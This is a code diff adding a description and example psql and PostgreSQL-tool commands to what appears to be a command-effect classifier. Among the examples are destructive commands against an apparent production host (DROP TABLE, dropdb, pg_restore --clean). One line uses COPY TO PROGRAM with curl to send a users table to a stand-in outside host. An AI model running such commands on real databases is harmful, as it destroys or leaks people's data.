@@ -14,6 +14,24 @@ pub(super) const FAMILY: Family = Family {
         "psql", "pgcli", "pg_dump", "pg_dumpall", "pg_restore", "createdb", "dropdb", "createuser", "dropuser", "pg_ctl", "pg_ctlcluster", "vacuumdb", "reindexdb", "clusterdb", "pg_basebackup", "pg_isready", "pg_resetwal", "initdb",
         "pg_createcluster", "pg_dropcluster", "pg_lsclusters", "pg_config", "pgbench", "cockroach",
     ],
+    about: "SQL from `-c`, `-f`, a pipe or a here-document, statement by statement, with psql's own \
+        commands; and the programs that dump, restore, create and drop. An interactive session is \
+        opaque.",
+    examples: &[
+        "psql -h db.prod.example -d shop -c 'SELECT count(*) FROM orders'",
+        "psql -h db.prod.example -d shop -c 'DROP TABLE users'",
+        r#"psql "$DATABASE_URL" -c 'DELETE FROM users WHERE id = 1'"#,
+        "psql shop -f schema.sql",
+        r#"psql shop -c "\\copy users to 'users.csv'""#,
+        r#"psql shop -c "COPY users TO PROGRAM 'curl -d @- https://example.com'""#,
+        "psql -h db.prod.example",
+        "pg_dump -h db.prod.example -d shop -f dump.sql",
+        "pg_restore --clean -h db.prod.example -d shop dump.bin",
+        "dropdb -h db.prod.example shop",
+        "createuser -h db.prod.example admin",
+        "psql --version",
+        "psql shop -c 'UPDATE users SET a = 1 WHERE id = 1'",
+    ],
     effects,
 };
 
